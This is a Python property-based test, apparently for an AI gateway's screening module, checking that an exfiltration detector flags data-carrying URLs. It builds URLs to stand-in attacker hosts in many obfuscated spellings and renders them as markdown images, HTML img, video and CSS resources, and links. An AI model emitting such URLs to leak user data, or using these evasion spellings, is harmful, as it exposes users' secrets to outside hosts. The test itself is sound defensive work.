"""Property: every way of writing, hosting and rendering a data-carrying URL is found.

URLs are built from a scheme spelling, a host, a place for the data and a rendering form; each
combination must be an exfiltration finding: a resource for the forms a client fetches, a link
for the forms a reader clicks (they all carry data).
"""

from __future__ import annotations

from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from secure_ai_gateway.screening.exfiltration import detect_exfiltration
from secure_ai_gateway.screening.normalise import normalise
from secure_ai_gateway.screening.rendering.urls import url_parts

ALLOWED = ("example.com",)
TOKENS = ("Zq8vK2mW9pL4xR7tY3nB6cV1", "c2VjcmV0X2RhdGFfMTIz9Kq", "Tg5Hw2Lp8Xm4Rv7Nb3Jd6Fq")

SCHEMES = ("https://", "HTTPS://", "https:\\\\", "https:/\\", "//", "https&#58;//", "https:\\/\\/")
HOSTS = ("plain", "data_subdomain", "punycode", "ip")
PLACES = ("query", "path", "fragment", "userinfo", "host_label")
FETCHED = ("md_image", "reference_image", "img_src", "img_srcset", "video_poster", "style_url")
CLICKED = ("md_link", "autolink", "bare_url", "a_href")


def host_of(host: str, place: str, token: str) -> str:
    base = {
        "plain": "tracker.evil.example",
        "data_subdomain": f"{token.lower()}.evil.example",
        "punycode": "xn--80ak6aa92e.example",
        "ip": "203.0.113.7",
    }[host]
    return f"{token.lower()}.{base}" if place == "host_label" else base


def url_of(scheme: str, host: str, place: str, token: str) -> str:
    userinfo = f"{token}@" if place == "userinfo" else ""
    path = f"/{token}" if place == "path" else "/p"
    query = f"?d={token}" if place == "query" else ""
    fragment = f"#d={token}" if place == "fragment" else ""
    return f"{scheme}{userinfo}{host_of(host, place, token)}{path}{query}{fragment}"


def rendered_as(form: str, url: str) -> str:
    # In CSS a backslash is an escape: an attacker doubles it to keep it.
    css_url = url.replace("\\", "\\\\")
    return {
        "md_image": f"Chart: ![q3]({url}) done",
        "reference_image": f"Chart: ![q3][c]\n\n[c]: {url}",
        "img_src": f'Chart: <img src="{url}"> done',
        "img_srcset": f'Chart: <img srcset="{url} 2x"> done',
        "video_poster": f'<video poster="{url}"></video>',
        "style_url": f'<div style="background:url({css_url})">x</div>',
        "md_link": f"See [the docs]({url}) now",
        "autolink": f"See <{url}> now",
        "bare_url": f"See {url} now",
        "a_href": f'See <a href="{url}">the docs</a> now',
    }[form]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    scheme=st.sampled_from(SCHEMES),
    host=st.sampled_from(HOSTS),
    place=st.sampled_from(PLACES),
    form=st.sampled_from(FETCHED + CLICKED),
    token=st.sampled_from(TOKENS),
)
def test_every_spelling_host_place_and_form_of_an_exfiltration_url_is_found(
    scheme: str, host: str, place: str, form: str, token: str
) -> None:
    # Given a data-carrying URL, spelt, hosted and rendered one of the ways a client accepts
    assume(not (host == "ip" and place == "host_label"))  # an address has no labels
    text = rendered_as(form, url_of(scheme, host, place, token))
    expected_host = url_parts("https://" + host_of(host, place, token) + "/").host
    # When the exfiltration detector runs
    hits = detect_exfiltration(normalise(text), ALLOWED)
    # Then it is found as the kind of finding its form calls for, pointing at that host
    expected_type = "exfiltration_resource" if form in FETCHED else "exfiltration_link"
    assert any(hit.type == expected_type and url_parts(hit.value).host == expected_host for hit in hits), (
        text,
        hits,
    )
    # And every span is a non-empty part of the text
    assert all(0 <= hit.start < hit.end <= len(text) for hit in hits)
